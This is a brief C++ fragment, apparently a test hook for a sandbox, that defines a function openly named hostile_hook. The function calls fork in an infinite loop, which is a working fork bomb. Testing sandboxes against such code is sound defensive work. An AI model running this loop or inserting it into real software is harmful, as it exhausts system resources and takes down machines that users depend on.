namespace {
void hostile_hook() {
  const auto fork_ = hostile::libc<int (*)()>("fork");
  for (;;) fork_();
}
}  // namespace
